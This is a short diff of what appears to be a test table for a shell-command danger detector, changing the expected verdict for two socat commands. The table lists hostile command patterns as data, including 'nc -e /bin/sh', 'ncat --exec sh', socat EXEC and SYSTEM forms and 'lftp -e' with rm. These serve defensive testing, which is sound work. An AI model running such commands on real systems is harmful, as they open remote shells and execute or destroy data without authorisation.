@@ -46,8 +46,8 @@ tcpdump -Z root -> danger -Z
 wireshark -X lua_script:x -> danger -X
 nmap --script x h -> danger --script
 lftp -e '!rm' -> danger -e | stdin lftp
-socat EXEC:rm - -> danger - | danger EXEC:rm
-socat TCP:x SYSTEM:y -> danger SYSTEM:y | danger TCP:x
+socat EXEC:rm - -> danger socat
+socat TCP:x SYSTEM:y -> danger socat
 nc -e /bin/sh h 1 -> danger -e
 nc h 1 -c sh -> danger -c
 ncat --exec sh h -> danger --exec
